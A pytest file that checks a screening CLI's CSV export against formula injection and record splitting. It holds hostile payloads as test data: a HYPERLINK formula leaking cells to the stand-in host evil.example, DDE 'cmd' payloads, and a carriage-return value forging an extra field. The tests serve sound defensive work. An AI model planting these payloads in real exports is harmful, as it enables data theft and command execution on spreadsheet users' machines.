"""Formula injection: no cell of a CSV the tool writes starts a formula, and no character in
a name or file name splits a record (issue 10, item 3). JSON keeps the raw values."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli import main

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: cells a spreadsheet may evaluate
LINK = '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Click for details")'
PAYLOADS = [LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _toml(text: str) -> str:
    return json.dumps(text)  # a JSON string is a TOML basic string, escapes and all


def _application(folder: Path, name: str, applicant: str, plan: str, title: str = "t") -> Path:
    path = folder / name
    path.write_text(
        f"[applicant]\nname = {_toml(applicant)}\n\n[[plans]]\nid = {_toml(plan)}\n"
        f'track = "recycling.rnd"\ntitle = {_toml(title)}\n'
        'baseline_cost = "6400 JPY/kg"\ntarget_cost = "5900 JPY/kg"\n',
        encoding="utf-8",
    )
    return path


def _screen_csv(*paths: Path) -> tuple[str, list[dict[str, str]]]:
    args = ["screen", "--format", "csv", "-j", "1", "--", *map(str, paths)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1, result.output
    text = result.stdout.removeprefix("\ufeff")  # CSV for Excel starts with a BOM
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_starts_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, payload: str
) -> None:
    monkeypatch.chdir(tmp_path)  # the file's name is the row's first cell
    file_name = payload.replace("/", "_") + ".toml"
    _application(tmp_path, file_name, payload, payload)
    _, rows = _screen_csv(Path(file_name))
    [row] = rows
    # each text is all there, after the quote that makes a spreadsheet read it as text
    assert (row["file"], row["applicant"], row["plan"]) == (
        f"'{file_name}",
        f"'{payload}",
        f"'{payload}",
    )
    assert row["verdict"] == "ineligible"
    for cell in row.values():
        assert not cell.startswith(FORMULA_START), cell


def test_a_cr_in_a_name_is_quoted_and_cannot_split_the_record(tmp_path: Path) -> None:
    name = "Evil K.K.\r,eligible,\r=1+1"
    path = _application(tmp_path, "a.toml", name, "p\rq")
    out, rows = _screen_csv(path)
    [row] = rows
    assert row["applicant"] == name  # the record holds the whole name, in its own column
    assert row["plan"] == "p\rq"
    assert row["verdict"] == "ineligible"
    # every CR in the file is inside a quoted cell: outside quotes, only LF ends records
    outside = out.split('"')[::2]
    assert not any("\r" in part for part in outside)
    assert out.count("\n") == 2


def test_json_keeps_the_raw_values(tmp_path: Path) -> None:
    path = _application(tmp_path, "a.toml", LINK, "+plan")
    result = CliRunner().invoke(main, ["screen", str(path), "--format", "json", "-j", "1"])
    [row] = json.loads(result.stdout)["rows"]
    assert (row["applicant"], row["plan"]) == (LINK, "+plan")
